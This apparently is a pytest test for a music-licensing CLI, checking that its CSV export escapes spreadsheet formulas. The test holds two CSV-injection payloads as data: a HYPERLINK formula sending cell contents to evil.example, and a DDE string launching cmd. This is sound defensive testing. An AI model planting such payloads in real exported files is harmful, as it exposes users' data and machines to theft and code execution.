"""`fairchord audit licenses --format csv` writes stored text a spreadsheet will not run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from flows.cli import app
from tests.common.ledger import build_recorded_run

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


def test_licence_csv_neutralises_formulas(
    session: Session, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    recorded = build_recorded_run(session, tmp_path)
    recorded.recordings[0].title = HYPERLINK
    recorded.recordings[1].title = DDE
    session.commit()
    monkeypatch.setenv("FAIRCHORD_DB_URL", db_url)
    out = tmp_path / "report.csv"
    done = CliRunner().invoke(
        app,
        ["audit", "licenses", "--checkpoint", str(recorded.checkpoint.id), "--format", "csv"]
        + ["--out", str(out)],
    )
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert [row["title"] for row in rows] == ["'" + HYPERLINK, "'" + DDE, "Breaking the Chains"]
    assert [row["minutes"] for row in rows] == ["1.038", "1.063", "3.567"]
    assert rows[0]["declared_licence"] == "CC-BY-SA-3.0"
